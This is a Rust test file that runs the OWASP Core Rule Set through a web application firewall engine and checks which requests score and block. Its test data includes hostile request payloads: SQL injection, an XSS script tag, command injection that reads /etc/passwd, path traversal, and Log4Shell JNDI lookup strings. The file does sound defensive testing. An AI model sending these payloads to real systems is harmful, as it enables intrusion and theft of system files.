//! Loads the installed OWASP CRS 3.3 (Debian's modsecurity-crs) and checks classic attacks and
//! benign requests. Skips, with a note, where the rules are not installed.

use std::path::Path;
use std::sync::OnceLock;

use rpaas_crs::{load_dir, Loaded, RequestInput};

const CRS_DIR: &str = "/usr/share/modsecurity-crs/rules";

fn crs(pl: u8) -> Option<&'static Loaded> {
    static SETS: [OnceLock<Option<Loaded>>; 4] = [
        OnceLock::new(),
        OnceLock::new(),
        OnceLock::new(),
        OnceLock::new(),
    ];
    SETS[usize::from(pl - 1)]
        .get_or_init(|| {
            if !Path::new(CRS_DIR).is_dir() {
                eprintln!("note: {CRS_DIR} is absent (apt-get install modsecurity-crs); skipping");
                return None;
            }
            Some(load_dir(Path::new(CRS_DIR), pl).expect("CRS loads without error"))
        })
        .as_ref()
}

fn browser_get(uri: &str) -> RequestInput {
    RequestInput::new("GET", uri)
        .header("Host", "automate.example.com")
        .header(
            "User-Agent",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
        )
        .header("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
        .header("Accept-Language", "en-US,en;q=0.5")
        .header("Accept-Encoding", "gzip, deflate, br")
        .header("Connection", "keep-alive")
}

fn json_post() -> RequestInput {
    RequestInput::new("POST", "/cwa/api/v1/computers/42/commands")
        .header("Host", "automate.example.com")
        .header("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0")
        .header("Accept", "application/json")
        .header("Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl")
        .body(
            "application/json",
            r#"{"command":"refresh","options":{"force":true,"timeoutSeconds":30},"tags":["inventory","nightly"],"note":"Scheduled refresh for the accounting team"}"#,
        )
}

#[test]
fn loads_at_every_paranoia_level_with_few_unsupported_rules() {
    for pl in 1..=4 {
        let Some(l) = crs(pl) else { return };
        let r = &l.report;
        println!(
            "PL{pl}: {} runnable rules, {} unsupported, {} response/logging-phase rules not run, {} ignored directives",
            l.rules.rule_count(),
            r.unsupported.len(),
            r.response_phase.len(),
            r.ignored_directives.len()
        );
        for u in r.unsupported.iter().chain(&r.ignored_directives) {
            println!("  {}:{} rule {}: {}", u.file, u.line, u.rule_id, u.reason);
        }
        assert!(l.rules.rule_count() > 300, "most request rules load");
        assert!(r.unsupported.len() <= 10, "unsupported list is small");
        assert!(r
            .unsupported
            .iter()
            .all(|u| !u.reason.is_empty() && u.line > 0));
        assert!(r
            .response_phase
            .iter()
            .all(|u| u.reason.contains("not run")));
        assert!(l.rules.rule_ids().any(|id| id == 949110));
    }
}

fn attack_cases() -> Vec<(&'static str, RequestInput)> {
    vec![
        ("sqli", browser_get("/index.php?id=1%27%20or%201%3D1--")),
        (
            "xss",
            browser_get("/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
        ),
        (
            "rce",
            browser_get("/ping?host=127.0.0.1%3B%20cat%20%2Fetc%2Fpasswd"),
        ),
        ("lfi", browser_get("/download?file=../../etc/passwd")),
        (
            "log4j-arg",
            browser_get("/api?v=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D"),
        ),
    ]
}

#[test]
fn classic_attacks_score_and_block_at_pl1() {
    let Some(l) = crs(1) else { return };
    for (name, req) in attack_cases() {
        let e = l.rules.evaluate(&req);
        let ids: Vec<String> = e
            .matches
            .iter()
            .map(|m| format!("{} [{}: {}]", m.id, m.var_name, m.excerpt))
            .collect();
        println!(
            "{name}: score {} blocked_by {:?}: {}",
            e.anomaly_score,
            e.blocked_by,
            ids.join(", ")
        );
        assert!(
            e.anomaly_score >= 5,
            "{name}: score {} ({ids:?})",
            e.anomaly_score
        );
        assert_eq!(e.blocked_by, Some(949110), "{name}");
        assert!(e.would_block());
        assert!(e
            .matches
            .iter()
            .all(|m| m.excerpt.len() <= 4 * rpaas_crs::EXCERPT_MAX));
    }
}

/// CRS 3.3.4 (Debian's package) has no rule for `${jndi:...}` in an arbitrary header: the
/// Log4Shell rule 944150 arrived in a later CRS release. Where the loaded CRS has it, the header
/// must block; where it does not, ModSecurity would not block either, and neither do we.
#[test]
fn log4j_header() {
    let Some(l) = crs(1) else { return };
    let e = l
        .rules
        .evaluate(&browser_get("/").header("X-Api-Version", "${jndi:ldap://x}"));
    if l.rules.rule_ids().any(|id| id == 944150) {
        assert!(e.would_block(), "{:?}", e.matches);
    } else {
        println!(
            "note: this CRS has no rule 944150; log4j header score {} {:?}",
            e.anomaly_score, e.matches
        );
        assert!(!e.would_block());
    }
}

#[test]
fn benign_requests_pass_at_every_level() {
    for pl in 1..=4 {
        let Some(l) = crs(pl) else { return };
        for (name, req) in [
            ("get", browser_get("/cwa/index.html?page=2&sort=name")),
            ("json", json_post()),
        ] {
            let e = l.rules.evaluate(&req);
            let ids: Vec<String> = e
                .matches
                .iter()
                .map(|m| format!("{} [{}: {}] {}", m.id, m.var_name, m.excerpt, m.msg))
                .collect();
            println!("PL{pl} {name}: score {} {ids:?}", e.anomaly_score);
            if pl <= 2 {
                assert_eq!(e.anomaly_score, 0, "PL{pl} {name}: {ids:?}");
                assert_eq!(e.blocked_by, None, "PL{pl} {name}");
            }
        }
    }
}

#[test]
fn attacks_still_block_at_higher_levels() {
    for pl in 2..=4 {
        let Some(l) = crs(pl) else { return };
        for (name, req) in attack_cases() {
            let e = l.rules.evaluate(&req);
            assert!(e.would_block(), "PL{pl} {name}: {:?}", e.matches);
        }
    }
}

#[test]
fn crs_engine_details() {
    let Some(l) = crs(1) else { return };
    // 920350: a numeric Host header.
    let e = l.rules.evaluate(
        &RequestInput::new("GET", "/")
            .header("Host", "10.0.0.1")
            .header("User-Agent", "x")
            .header("Accept", "*/*"),
    );
    assert!(e.matches.iter().any(|m| m.id == 920350), "{:?}", e.matches);
    // 911100: a method outside tx.allowed_methods.
    let e = l.rules.evaluate(&browser_get("/").tap_method("TRACK"));
    assert!(e.matches.iter().any(|m| m.id == 911100), "{:?}", e.matches);
    // 920280: no Host header at all.
    let e = l.rules.evaluate(
        &RequestInput::new("GET", "/")
            .header("User-Agent", "x")
            .header("Accept", "*/*"),
    );
    assert!(e.matches.iter().any(|m| m.id == 920280), "{:?}", e.matches);
}

trait TapMethod {
    fn tap_method(self, m: &str) -> Self;
}

impl TapMethod for RequestInput {
    fn tap_method(mut self, m: &str) -> Self {
        self.method = m.to_string();
        self
    }
}
